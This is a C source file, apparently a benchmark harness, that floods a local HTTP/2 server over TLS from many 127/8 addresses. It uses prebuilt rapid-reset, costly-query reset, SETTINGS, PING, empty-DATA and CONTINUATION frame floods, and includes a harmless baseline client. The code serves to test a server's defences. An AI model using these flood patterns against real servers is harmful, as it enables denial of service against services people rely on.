/*
 * An attacker: connects with TLS and HTTP/2 from addresses of 127/8, sends frames
 * made beforehand as fast as they are taken, and does it again as soon as it is
 * closed, until its input ends.
 *	flood PORT KIND RATE	RATE connections a second, each from another address; 0: as
 *				many as it gets, all from one address.  Prints the
 *				connections made, and those refused before a handshake.
 * The kind "harmless" asks one thing on each connection, takes the answer and
 * leaves: what it costs the server is what any client costs.
 */
#include "tests/bench/peer.h"

#include <sys/socket.h>
#include <sys/time.h>

#include <arpa/inet.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define CLIENTS 4
#define UNITS 3000 /* frames, or requests with their resets: more than are let pass */
#define DATA 0
#define HEADERS 1
#define RST_STREAM 3
#define SETTINGS 4
#define PING 6
#define CONTINUATION 9
#define END_STREAM 1
#define END_HEADERS 4

/* The same block of headers, after method, scheme and authority: a path shorter than 127 bytes. */
struct request {
	const char *path;
	bool post;
};

struct kind {
	const char *name;
	struct request request; /* begun for each unit if it is reset, else once, or never (NULL) */
	uint8_t frame; /* of a unit */
	uint8_t flags; /* of the request */
	const char *payload;
	size_t len;
};

static const char costly[] = "/db/query?q=WITH+RECURSIVE+r(n)+AS(SELECT+1+UNION+ALL+SELECT+n%2b1+"
			     "FROM+r)SELECT+count(*)FROM+r";
static const struct kind kinds[] = {
	{ "rapid-reset", { "/db/query?q=SELECT+1", false }, RST_STREAM, END_STREAM | END_HEADERS,
	    "\0\0\0\x08", 4 },
	{ "rapid-reset-costly", { costly, false }, RST_STREAM, END_STREAM | END_HEADERS,
	    "\0\0\0\x08", 4 },
	{ "settings", { NULL, false }, SETTINGS, 0, "\0\4\0\0\xff\xff", 6 },
	{ "ping", { NULL, false }, PING, 0, "12345678", 8 },
	{ "empty-data", { "/db/query", true }, DATA, END_HEADERS, "", 0 },
	{ "continuation", { "/", false }, CONTINUATION, END_STREAM, "", 0 },
	{ "harmless", { "/db/query?q=SELECT+1", false }, 0, END_STREAM | END_HEADERS, NULL, 0 },
};

static struct peer_target target;
static const struct kind *kind;
static uint8_t *bytes; /* what each connection sends */
static size_t nbytes;
static double rate;
static atomic_uint made, refused, serial;
static atomic_bool over;

static void
add(const void *data, size_t len)
{
	memcpy(bytes + nbytes, data, len);
	nbytes += len;
}

static void
add_frame(uint8_t type, uint8_t flags, uint32_t stream, const void *payload, size_t len)
{
	uint32_t id = htonl(stream);
	uint8_t head[5] = { (uint8_t)(len >> 16), (uint8_t)(len >> 8), (uint8_t)len, type, flags };

	add(head, sizeof(head));
	add(&id, sizeof(id));
	add(payload, len);
}

/* HPACK: method, scheme and authority from or as the static table has them, the path literal. */
static void
add_request(uint32_t stream)
{
	char block[160];
	int n = snprintf(block, sizeof(block), "%c\x87\x04%c%s\x41\x01x",
	    kind->request.post ? 0x83 : 0x82, (int)strlen(kind->request.path), kind->request.path);

	add_frame(HEADERS, kind->flags, stream, block, (size_t)n);
}

static void
prepare(void)
{
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
	bool resets = kind->frame == RST_STREAM;
	uint32_t i, stream;

	bytes = malloc(1024 + (size_t)UNITS * 256);
	if (bytes == NULL)
		abort();
	add(preface, sizeof(preface) - 1);
	add_frame(SETTINGS, 0, 0, "", 0);
	if (kind->request.path != NULL && !resets)
		add_request(1);
	for (i = 0; i < UNITS && kind->payload != NULL; i++) {
		stream = resets ? 2 * i + 1 : kind->request.path != NULL ? 1 : 0;
		if (resets)
			add_request(stream);
		add_frame(kind->frame, 0, stream, kind->payload, kind->len);
	}
}

/* Until the stream's end has come, or the server closed. */
static void
take_answer(SSL *ssl)
{
	uint8_t got[16384];
	size_t have = 0, at;
	int n;

	while ((n = SSL_read(ssl, got + have, (int)(sizeof(got) - have))) > 0) {
		have += (size_t)n;
		for (at = 0; have - at >= 9;) {
			size_t len = (size_t)got[at] << 16 | (size_t)got[at + 1] << 8 | got[at + 2];

			if (got[at + 8] == 1 && got[at + 3] <= HEADERS &&
			    (got[at + 4] & END_STREAM))
				return;
			if (have - at < 9 + len)
				break;
			at += 9 + len;
		}
	}
}

static void
attack(SSL *ssl)
{
	static const struct timeval limit = { 0, 500000 };
	uint8_t got[16384];

	(void)setsockopt(SSL_get_fd(ssl), SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	(void)setsockopt(SSL_get_fd(ssl), SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof(limit));
	if (SSL_write(ssl, bytes, (int)nbytes) != (int)nbytes)
		return;
	if (kind->payload == NULL)
		take_answer(ssl);
	else
		while (SSL_read(ssl, got, sizeof(got)) > 0)
			;
}

static void *
client(void *arg)
{
	unsigned long number = *(const unsigned long *)arg;
	double due = peer_now() + (rate > 0 ? (double)number / rate : 0);

	for (; !over; due += rate > 0 ? CLIENTS / rate : 0) {
		in_addr_t from = rate > 0 ? 0x7f010000 + serial++ % 0x7f0000 : 0x7f000002;
		SSL *ssl;

		peer_sleep(due);
		if ((ssl = peer_open(&target, htonl(from))) == NULL) {
			refused++;
			continue;
		}
		made++;
		attack(ssl);
		peer_close(ssl);
	}
	return (NULL);
}

/* The load beside which it runs goes first on a core that both share. */
static void
yield_to_others(void)
{
	struct sched_param param = { 0 };

	if (sched_setscheduler(0, SCHED_IDLE, &param) == -1)
		abort();
}

int
main(int argc, char **argv)
{
	static unsigned long numbers[CLIENTS];
	pthread_t threads[CLIENTS];
	char byte;
	size_t i;

	for (i = 0; argc == 4 && i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (strcmp(kinds[i].name, argv[2]) == 0)
			kind = &kinds[i];
	if (kind == NULL)
		return (2);
	rate = strtod(argv[3], NULL);
	peer_init(&target, argv[1], "\x02h2");
	prepare();
	serial = (unsigned)getpid() * 4096; /* no address of a former run, which may be known */
	yield_to_others();
	for (i = 0; i < CLIENTS; i++) {
		numbers[i] = i;
		if (pthread_create(&threads[i], NULL, client, &numbers[i]) != 0)
			return (1);
	}
	while (read(STDIN_FILENO, &byte, 1) > 0)
		;
	over = true;
	for (i = 0; i < CLIENTS; i++)
		pthread_join(threads[i], NULL);
	printf("%u %u\n", made, refused);
	return (0);
}
